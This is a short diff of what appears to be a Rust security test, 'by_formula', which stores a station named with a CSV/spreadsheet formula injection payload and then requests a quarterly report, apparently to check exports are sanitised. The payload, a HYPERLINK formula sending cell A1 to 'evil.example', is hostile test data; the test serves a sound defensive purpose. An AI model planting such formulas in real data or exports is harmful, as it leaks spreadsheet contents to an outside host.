@@ -129,7 +129,8 @@ async fn by_injection(platform: &Platform) -> Result<()> {
 async fn by_formula(platform: &Platform) -> Result<()> {
     let evil = "=HYPERLINK(\"http://evil.example/?\"&A1,\"x\")";
     let (admin, supervisor) = (platform.log_in("admin").await?, platform.log_in("supervisor").await?);
-    let station = json!({ "name": evil, "place": { "lat": 33.96, "lon": 118.28 }, "telephone": "x", "on_duty": true });
+    let station =
+        json!({ "name": evil, "place": { "lat": 33.96, "lon": 118.28 }, "telephone": "x", "on_duty": true });
     admin.put("/api/stations/formula", &station).await?.ok()?;
     crate::reports::helped(platform, "demo-0084", "formula", evil).await?;
     let path = format!("/api/reports/quarter?quarter={}", crate::reports::quarter());
